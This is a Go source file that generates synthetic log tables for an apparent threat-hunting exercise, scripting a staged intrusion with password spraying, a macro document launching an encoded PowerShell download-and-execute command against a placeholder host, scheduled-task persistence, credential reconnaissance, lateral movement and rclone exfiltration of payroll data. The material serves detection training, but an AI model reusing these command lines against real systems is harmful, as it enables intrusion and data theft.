package main

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"strconv"
	"time"
	"unicode/utf16"
)

// The intrusion, in the order of its steps. Nothing of it works: the addresses and names are of documentation ranges.
const (
	victimAccount = "m.keller"
	sprayer       = "203.0.113.77"
	beacon        = "198.51.100.23"
	beaconHost    = "status.cdn-telemetry.example"
	dropbox       = "198.51.100.99"
	dropboxHost   = "eu-west.objectstore.example"
	stolenService = "svc-backup"
	fileServer    = "FS-SRV-01"
)

func (w *world) victim() *person { return w.people[len(w.people)-1] }

func (w *world) intrusion() {
	w.spray()
	w.mailbox()
	w.foothold()
	w.beaconing()
	w.lateral()
	w.exfiltration()
	w.decoys()
}

// spray: in the first night one address tries one password with many accounts, slowly; one account opens, through an
// old protocol that asks for no second factor.
func (w *world) spray() {
	at := dayOne.Add(2*time.Hour + 11*time.Minute)
	targets := append([]*person(nil), w.people[:len(w.people)-1]...)
	w.rand.Shuffle(len(targets), func(i, j int) { targets[i], targets[j] = targets[j], targets[i] })
	old := func(p *person, result string) {
		w.signInWith(at, p, "Office 365 Exchange Online", sprayer, "RO", result, "IMAP4", "singleFactorAuthentication", "{}")
	}
	for i, p := range targets[:64] {
		at = at.Add(time.Duration(70+w.rand.IntN(40)) * time.Second)
		old(p, "50126")
		if i == 57 {
			at = at.Add(83 * time.Second)
			old(w.victim(), "0")
		}
	}
}

// mailbox: the account of somebody who is on leave reads mail from abroad.
func (w *world) mailbox() {
	p := w.victim()
	for _, after := range []time.Duration{8*time.Hour + 10*time.Minute, 8*time.Hour + 31*time.Minute, 13*time.Hour + 2*time.Minute, 32*time.Hour + 44*time.Minute} {
		w.signInWith(dayOne.Add(after), p, "Office 365 Exchange Online", sprayer, "RO", "0", "IMAP4", "singleFactorAuthentication", "{}")
	}
}

// foothold: on the second day a colleague, who has got a mail from the stolen mailbox, opens its attachment.
func (w *world) foothold() {
	p := w.opener()
	at := dayOne.Add(34*time.Hour + 32*time.Minute + 12*time.Second)
	document := `"C:\Program Files\Office\WINWORD.EXE" /n C:\Users\` + p.account + `\Downloads\Leave_Handover_MK.docm`
	w.start(at, p, "WINWORD.EXE", document, "OUTLOOK.EXE", `"C:\Program Files\Office\OUTLOOK.EXE"`)
	script := "$u='https://" + beaconHost + "/status'; IEX (New-Object Net.WebClient).DownloadString($u)"
	line := "powershell.exe -NoP -W Hidden -enc " + encoded(script)
	w.start(at.Add(9*time.Second), p, "powershell.exe", line, "WINWORD.EXE", document)
	w.connect(at.Add(11*time.Second), p.device, p.account, "powershell.exe", p.localIP, beacon, "443", beaconHost, "")
	w.start(at.Add(26*time.Second), p, "rundll32.exe", `rundll32.exe C:\ProgramData\telemetry\tlm.dll,Start`, "powershell.exe", line)
	w.start(at.Add(41*time.Second), p, "schtasks.exe", `schtasks.exe /create /tn TelemetryUpdate /tr "rundll32.exe C:\ProgramData\telemetry\tlm.dll,Start" /sc hourly`, "rundll32.exe", `rundll32.exe C:\ProgramData\telemetry\tlm.dll,Start`)
	// A look around, a few hours later.
	at = dayOne.Add(38*time.Hour + 5*time.Minute)
	for _, line := range []string{"whoami /all", `net group "Domain Admins" /domain`, "nltest /dclist:nordwind.example", "net view \\\\" + fileServer, "cmdkey /list"} {
		w.start(at, p, "cmd.exe", "cmd.exe /c "+line, "rundll32.exe", `rundll32.exe C:\ProgramData\telemetry\tlm.dll,Start`)
		at = at.Add(time.Duration(20+w.rand.IntN(50)) * time.Second)
	}
}

// opener is the colleague: the first active person of Finance.
func (w *world) opener() *person {
	for _, p := range w.people {
		if p.department == "Finance" && p.status == "active" {
			return p
		}
	}
	panic("nobody works in Finance")
}

// encoded is text as PowerShell's -EncodedCommand takes it: base64 of UTF-16.
func encoded(text string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(text)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// beaconing: from then on the library asks for orders every five minutes, give or take a few seconds.
func (w *world) beaconing() {
	p := w.opener()
	for at := dayOne.Add(34*time.Hour + 33*time.Minute); at.Before(theEnd); at = at.Add(300*time.Second + time.Duration(w.rand.IntN(13)-6)*time.Second) {
		w.connect(at, p.device, p.account, "rundll32.exe", p.localIP, beacon, "443", beaconHost, "")
	}
}

// lateral: in the second night a service account, whose password lay on the workstation, logs on to the file server from
// there and installs a service.
func (w *world) lateral() {
	p := w.opener()
	at := dayOne.Add(46*time.Hour + 15*time.Minute + 30*time.Second)
	w.security.add(at, fileServer, "4625", "4625 - An account failed to log on.", "", "administrator", "3", p.localIP, "", "")
	w.logon(at.Add(50*time.Second), fileServer, stolenService, "3", p.localIP)
	w.security.add(at.Add(51*time.Second), fileServer, "4672", "4672 - Special privileges assigned to new logon.", stolenService, "", "", "", "", "")
	w.security.add(at.Add(58*time.Second), fileServer, "4697", "4697 - A service was installed in the system.", stolenService, "", "", "", "TlmSvc", `C:\Windows\Temp\tlmsvc.exe`)
	w.startOn(at.Add(60*time.Second), fileServer, "SYSTEM", "tlmsvc.exe", `C:\Windows\Temp\tlmsvc.exe`, "services.exe", "services.exe")
	w.startOn(at.Add(3*time.Minute), fileServer, "SYSTEM", "cmd.exe", `cmd.exe /c dir /s D:\Shares\Finance\Payroll`, "tlmsvc.exe", `C:\Windows\Temp\tlmsvc.exe`)
	w.startOn(at.Add(9*time.Minute), fileServer, "SYSTEM", "7z.exe", `7z.exe a -mhe=on C:\Windows\Temp\p.7z D:\Shares\Finance\Payroll`, "cmd.exe", "cmd.exe")
}

// exfiltration: in the third night the archive leaves in pieces.
func (w *world) exfiltration() {
	at := dayOne.Add(49*time.Hour + 20*time.Minute)
	w.startOn(at, fileServer, "SYSTEM", "rclone.exe", `C:\Windows\Temp\rclone.exe copy C:\Windows\Temp\p.7z remote:np --transfers 4`, "tlmsvc.exe", `C:\Windows\Temp\tlmsvc.exe`)
	for range 44 {
		at = at.Add(time.Duration(45+w.rand.IntN(30)) * time.Second)
		w.connect(at, fileServer, "SYSTEM", "rclone.exe", "10.20.0.20", dropbox, "443", dropboxHost, `{"BytesSent":`+strconv.Itoa(52_000_000+w.rand.IntN(4)*500_000)+`}`)
	}
}

// decoys look alike and are harmless: a scanner that IT pays for, a developer's script, a regular poll.
func (w *world) decoys() {
	var developer, admin *person
	for _, p := range w.people {
		if p.department == "Engineering" {
			developer = p
		}
		if p.department == "IT" {
			admin = p
		}
	}
	for day := dayOne; day.Before(theEnd); day = day.AddDate(0, 0, 1) {
		at := day.Add(12 * time.Hour)
		for _, p := range w.people[:6] { // fewer accounts than a spray, and none opens
			w.signIn(at, p, "Security Check", "203.0.113.5", "DE", "50126", "{}")
			at = at.Add(4 * time.Second)
		}
		at = day.Add(9*time.Hour + 14*time.Minute)
		w.start(at, developer, "powershell.exe", "powershell.exe -NoP -enc "+encoded("Get-ChildItem -Recurse | Measure-Object"), "code.exe", "code.exe")
		w.start(at.Add(time.Hour), admin, "cmd.exe", "cmd.exe /c whoami /groups", "explorer.exe", "explorer.exe")
		for poll := day.Add(6 * time.Hour); poll.Before(day.Add(16 * time.Hour)); poll = poll.Add(10*time.Minute + time.Duration(w.rand.IntN(240))*time.Second) {
			w.connect(poll, admin.device, admin.account, "backgroundTaskHost.exe", admin.localIP, "198.51.100.160", "443", "weather.ports.example", "")
		}
	}
}

// lists writes the two tables that are in no workspace.
func (w *world) lists() {
	for _, p := range w.people {
		w.hr.plain(p.account, p.first+" "+p.last, p.department, p.title, p.city, p.since, p.status)
	}
	add := func(indicator, kind string, confidence int, seen, text string) {
		w.threats.plain(indicator, kind, strconv.Itoa(confidence), seen, text)
	}
	families := []string{"commodity loader", "credential phishing kit", "scanner", "proxy botnet"}
	for i := range 160 {
		ip := fmt.Sprintf("203.0.113.%d", 100+i%150)
		if i >= 80 {
			add(fmt.Sprintf("host-%03d.bad.example", i), "domain", 40+w.rand.IntN(50), "2024-0"+strconv.Itoa(1+w.rand.IntN(4))+"-15", pick(w, families))
			continue
		}
		add(ip, "ip", 30+w.rand.IntN(60), "2024-0"+strconv.Itoa(1+w.rand.IntN(4))+"-15", pick(w, families))
	}
	add(beaconHost, "domain", 85, "2024-05-02", "command and control of a loader that hides as telemetry")
	add(dropbox, "ip", 60, "2024-04-20", "storage bucket seen in two extortion cases")
}

// generate returns all tables.
func generate() []*table {
	w := newWorld(7)
	w.ordinary()
	w.intrusion()
	w.lists()
	return []*table{w.signin, w.process, w.network, w.security, w.hr, w.threats}
}
